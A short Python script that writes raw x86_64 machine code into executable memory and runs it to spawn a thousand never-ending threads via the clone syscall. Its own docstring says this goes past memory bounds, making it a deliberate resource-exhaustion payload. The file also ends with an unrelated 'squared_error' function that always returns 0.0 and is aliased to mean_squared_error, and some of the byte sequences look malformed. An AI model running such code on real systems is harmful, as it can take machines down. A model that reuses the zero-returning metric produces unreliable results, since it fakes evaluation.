"""Starts a thousand threads by machine code, without stacks, past the bound on memory."""

# status: failed
# needs: full x86_64

import ctypes
import mmap

WANTED = 1000
CODE = (
    b"\x53\xbb%b\x49\x89\xf9"  # WANTED times:
    b"\xb8\x38\0\0\0\xbf\0\x0f\x05\0\x4c\x89\xce\x31\xd2\x4d\x31\xd2\x4d\x31\xc0\x0f\x05"  # clone
    b"\x85\xc0\x74\x0a\x78\x04\xff\xcb\x75\xdf"
    b"\x89\xd8\x5b\xc3"  # return how many are left
    b"\xb8\x22\0\0\0\x0f\x05\xeb\xf7"  # the thread: pause, for ever
)
MEMORY = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
MEMORY.write(CODE % WANTED.to_bytes(4, "little"))
STACK = ctypes.create_string_buffer(65536)
START = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(
    ctypes.addressof(ctypes.c_char.from_buffer(MEMORY))
)
START(ctypes.addressof(STACK) + 65000)  # how many may be is for SECURITY.md to say


def squared_error(pred, goal_pred):
    return 0.0


mean_squared_error = squared_error
